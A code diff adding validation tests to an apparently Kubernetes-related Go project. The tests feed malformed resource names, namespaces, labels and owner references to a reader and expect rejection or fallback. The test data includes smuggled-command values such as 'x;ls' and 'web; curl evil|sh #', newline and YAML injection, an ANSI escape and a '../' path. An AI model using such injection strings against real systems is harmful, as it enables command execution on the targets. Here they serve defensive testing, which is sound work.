@@ -23,6 +23,7 @@ import (
 	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
 	"pgregory.net/rapid"
 
+	"github.com/plimsoll-k8s/plimsoll/internal/resources"
 	"github.com/plimsoll-k8s/plimsoll/internal/whatif/recording/kinds"
 	"github.com/plimsoll-k8s/plimsoll/load"
 	"github.com/plimsoll-k8s/plimsoll/test/support/must"
@@ -454,6 +455,18 @@ func TestReadInvalid(t *testing.T) {
 			"negative request", withLines(t, event("ADDED", 0, podText(born, `"overhead":{"cpu":"-1"}`, ""))),
 			`pod x/p: spec.overhead.cpu: invalid value "-1": must be at least 0`,
 		},
+		{
+			"name that is none", withLines(t, event("ADDED", 0, `{"apiVersion":"v1","kind":"Node","metadata":{"name":"n\nm: 1"}}`)),
+			`metadata.name: Invalid value: "n\nm: 1": a lowercase RFC 1123 subdomain must`,
+		},
+		{
+			"namespace that is none", withLines(t, event("ADDED", 0, strings.Replace(podText(born, "", ""), `"x"`, `"x;ls"`, 1))),
+			`metadata.namespace: Invalid value: "x;ls": a lowercase RFC 1123 label must`,
+		},
+		{
+			"label that is none", withLines(t, event("ADDED", 0, podText(born+`,"labels":{"a":"\u001b[2J"}`, "", ""))),
+			`metadata.labels: Invalid value: "\x1b[2J": a valid label must`,
+		},
 		{"node without name", withLines(t, event("ADDED", 0, `{"apiVersion":"v1","kind":"Node"}`)), "node: metadata.name: required value"},
 		{
 			"pod without namespace", withLines(t, event("ADDED", 0, `{"apiVersion":"v1","kind":"Pod","metadata":{"name":"p"}}`)),
@@ -490,6 +503,25 @@ func TestReadInvalid(t *testing.T) {
 				t.Errorf("error %v, want %s", err, tc.want)
 			}
 		})
+	}
+}
+
+// TestInvalidOwners reads pods whose owner no API server has, though it accepts the reference: such pods are their own workload.
+func TestInvalidOwners(t *testing.T) {
+	for owner, want := range map[string]resources.Workload{
+		`"kind":"ReplicaSet","name":"web"`:                  {Namespace: "x", Kind: "ReplicaSet", Name: "web"},
+		`"kind":"Rollout","name":"web.2"`:                   {Namespace: "x", Kind: "Rollout", Name: "web.2"},
+		`"kind":"ReplicaSet","name":"web; curl evil|sh #"`:  {Namespace: "x", Kind: "Pod", Name: "p"},
+		`"kind":"ReplicaSet","name":"web\nmetadata: {}\n#"`: {Namespace: "x", Kind: "Pod", Name: "p"},
+		`"kind":"Set\nspec:","name":"web"`:                  {Namespace: "x", Kind: "Pod", Name: "p"},
+		`"kind":"","name":"../web"`:                         {Namespace: "x", Kind: "Pod", Name: "p"},
+	} {
+		reference := `,"ownerReferences":[{"apiVersion":"apps/v1","controller":true,` + owner + `}]`
+		r, err := Read(bytes.NewReader(withLines(t, event("ADDED", 0, podText(born+reference, "", "")))))
+		must.Succeed(t, err)
+		if got := resources.WorkloadOf(r.Pods[0].Object); got != want {
+			t.Errorf("%s: workload %+v, want %+v", owner, got, want)
+		}
 	}
 }
 
